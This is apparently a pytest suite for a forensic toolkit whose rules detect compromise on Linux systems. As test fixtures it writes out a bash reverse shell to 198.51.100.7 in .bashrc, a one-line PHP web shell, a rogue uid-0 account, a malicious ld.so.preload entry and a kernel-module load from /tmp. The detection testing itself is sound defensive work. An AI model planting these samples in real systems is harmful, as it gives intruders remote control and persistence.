"""Rules on files, accounts and persistence."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterable
from datetime import UTC, datetime

import pytest

from forensic_toolkit.commands import disk
from forensic_toolkit.filesystems import deleted_names, file_timeline
from forensic_toolkit.filesystems.tree import Tree, is_hidden
from forensic_toolkit.filesystems.volumes import guess_content
from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.results import Finding
from forensic_toolkit.rules import account_rules, file_rules, persistence_rules, shell_histories, web_rules
from tests.toolkit.fake_tree import INSTALLED, LATER, Builder

Rule = Callable[[Tree], Iterable[Finding]]


def found(rule: Rule, builder: Builder) -> list[tuple[str, str, str | None]]:
    """Source, severity and technique of what a rule finds."""
    return [(finding.source, finding.severity, finding.technique) for finding in rule(builder.tree())]


@pytest.mark.parametrize("rule", disk.TREE_RULES, ids=lambda rule: rule.__name__)
def test_an_untouched_system_gives_nothing(rule: Rule) -> None:
    builder = Builder()
    builder.add("/usr/bin/su", b"\x7fELF su", mode=0o4755, born=INSTALLED)
    builder.add("/etc/crontab", b"17 * * * * root run-parts /etc/cron.hourly\n", born=INSTALLED)
    builder.add("/usr/lib/systemd/system/cron.service", b"[Service]\nExecStart=/usr/bin/tool1\n", born=INSTALLED)
    builder.add("/root/.bashrc", b"alias ll='ls -l'\n", born=INSTALLED)
    assert found(rule, builder) == []


def test_set_user_id_copy_of_a_shell() -> None:
    builder = Builder().add("/usr/local/bin/.x", b"\x7fELF shell", mode=0o4755)
    (finding,) = file_rules.privileged(builder.tree())
    assert (finding.severity, finding.technique) == ("critical", "T1548.001")
    assert finding.data["same_as"] == "/usr/bin/bash"


def test_packages_vouch_for_their_programs() -> None:
    builder = Builder().add("/usr/bin/newtool", b"\x7fELF", mode=0o4755)
    assert len(found(file_rules.privileged, builder)) == 1
    # Debian's lists name the place before the merge of /bin into /usr.
    builder.add("/var/lib/dpkg/info/newtool.list", b"/.\n/bin/newtool\n")
    assert found(file_rules.privileged, builder) == []


def test_hidden_and_temporary_programs() -> None:
    builder = Builder().add("/usr/local/lib/.d/run", b"\x7fELF", mode=0o755).add("/tmp/run", b"#!/bin/sh\n", mode=0o755)
    builder.add("/tmp/notes", b"text", mode=0o755).add("/home/a/.local/bin/tool", b"\x7fELF", mode=0o755)
    assert found(file_rules.hidden_programs, builder) == [
        ("/usr/local/lib/.d/run", "high", "T1564.001"),
        ("/tmp/run", "medium", "T1036.005"),
    ]
    assert is_hidden("/home/a/.x") and not is_hidden("/home/a/.cache/x")


def test_times_set_back_are_told_from_unpacked_archives() -> None:
    old = datetime(2025, 5, 5, tzinfo=UTC)
    builder = Builder().add("/var/www/x.php", b"x", modified=old, accessed=old)
    assert found(file_rules.forged_times, builder) == [("/var/www/x.php", "high", "T1070.006")]
    for number in range(20):
        builder.add(f"/var/www/app/{number}.php", b"x", modified=old)
    assert {severity for _, severity, _ in found(file_rules.forged_times, builder)} == {"low"}


def test_accounts() -> None:
    passwd = b"root:x:0:0:r:/root:/bin/bash\nevil:x:0:0::/root:/bin/bash\nsvc:x:33:33::/var/www:/bin/sh\n"
    builder = Builder().add("/etc/passwd", passwd).add("/etc/shadow", b"root:!:1::::::\nsvc:$6$x:1::::::\n")
    assert found(account_rules.superusers, builder) == [("/etc/passwd", "critical", "T1136.001")]
    assert [title for title, *_ in found(account_rules.passwords, builder)] == ["/etc/shadow"]


def test_keys_added_later_weigh_more() -> None:
    key = b"ssh-ed25519 AAAAC3Nza ops@example.com\n"
    builder = Builder().add("/root/.ssh/authorized_keys", key, born=INSTALLED, modified=LATER)
    builder.add("/home/a/.ssh/authorized_keys", key, born=INSTALLED)
    severities = {source: severity for source, severity, _ in found(account_rules.login_keys, builder)}
    assert severities == {"/root/.ssh/authorized_keys": "high", "/home/a/.ssh/authorized_keys": "info"}


def test_cron_and_units() -> None:
    builder = Builder().add("/usr/local/lib/.d/run", b"\x7fELF", mode=0o755)
    builder.add("/etc/cron.d/x", b"# comment\nSHELL=/bin/sh\n*/5 * * * * root /usr/local/lib/.d/run >/dev/null\n")
    builder.add("/etc/systemd/system/x.service", b"[Service]\nExecStart=-/usr/local/lib/.d/run a\n")
    builder.add("/etc/systemd/system/multi-user.target.wants/x.service", link="/etc/systemd/system/x.service")
    assert found(persistence_rules.cron, builder) == [("/etc/cron.d/x", "high", "T1053.003")]
    assert found(persistence_rules.units, builder) == [("/etc/systemd/system/x.service", "high", "T1543.002")]


def test_start_files() -> None:
    builder = Builder().add("/home/a/.bashrc", b"alias x=y\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1 &\n")
    assert found(persistence_rules.start_files, builder) == [("/home/a/.bashrc", "critical", "T1546.004")]
    builder = Builder().add("/etc/ld.so.preload", b"/lib/x.so\n")
    assert found(file_rules.library_preload, builder) == [("/etc/ld.so.preload", "critical", "T1574.006")]


def test_histories_and_silenced_histories() -> None:
    builder = Builder().add("/root/.bash_history", b"#1767323045\ninsmod /tmp/x.ko\nls\n")
    builder.add("/home/a/.bash_history", link="/dev/null")
    findings, events = shell_histories.examine(builder.tree(), coverage=Coverage())
    assert sorted(finding.technique or "" for finding in findings) == ["T1547.006", "T1562.003"]
    assert len(events) == 2


def test_web_shell_below_a_configured_root() -> None:
    builder = Builder().add("/data/site/a.php", b"<?php system($_GET['c']); ?>")
    assert web_rules.web_shells(builder.tree()) == {}
    builder.add("/etc/nginx/sites-enabled/site", b"server {\n  root /data/site;\n}\n")
    assert [finding.severity for finding in web_rules.web_shells(builder.tree()).values()] == ["critical"]


def test_links_are_followed_and_loops_end() -> None:
    builder = Builder().add("/bin", link="usr/bin").add("/a", link="b").add("/b", link="a")
    tree = builder.tree()
    bash = tree.get("/bin/bash")
    assert bash is not None and bash.path == "/usr/bin/bash"
    assert tree.get("/a") is None


def test_timeline_has_one_line_for_equal_times() -> None:
    builder = Builder().add("/etc/x", b"x", modified=INSTALLED)
    (entry,) = [entry for entry in builder.tree().entries if entry.path == "/etc/x"]
    events = list(file_timeline.events([entry], notable={"/etc/x"}))
    assert [event.extra["macb"] for event in events] == ["m...", ".acb"]
    line = events[1].as_timesketch()
    assert line["datetime"] == "2026-01-10T12:00:00.123457+00:00"
    assert line["timestamp_desc"] == "Accessed, Changed, Born"
    assert {"message", "path", "inode", "size", "mode", "uid", "source"} <= set(line)


def entry(inode: int, name: bytes, *, kind: int, length: int) -> bytes:
    """An ext4 directory entry."""
    return struct.pack("<IHBB", inode, length, len(name), kind) + name.ljust(length - 8, b"\0")


def test_deleted_names_in_copies_of_directory_blocks() -> None:
    own, parent = entry(11, b".", kind=2, length=12), entry(2, b"..", kind=2, length=12)
    gone = entry(99, b"gone.tgz", kind=1, length=1024 - 24 - 12)
    here = struct.pack("<IHBB", 98, 1024 - 24, 4, 1) + b"here" + gone
    block = own + parent + here
    assert len(block) == 1024
    names = list(deleted_names.in_blocks(bytes(1024) + block + b"\xff" * 1024, block=1024))
    assert [(name.folder_inode, name.name, name.inode) for name in names] == [
        (11, "here", 98),
        (11, "gone.tgz", 99),
    ]
    # A block that only begins like one gives nothing.
    assert list(deleted_names.in_blocks(block[:30] + b"\xff" * 994, block=1024)) == []


@pytest.mark.parametrize(
    ("head", "words"),
    [
        (b"XFSB" + bytes(508), "XFS"),
        (b"LUKS\xba\xbe", "encrypted"),
        (bytes(512), "empty"),
        (b"x" * 512, "no known"),
    ],
)
def test_unreadable_file_systems_are_named(head: bytes, words: str) -> None:
    assert words in guess_content(head)
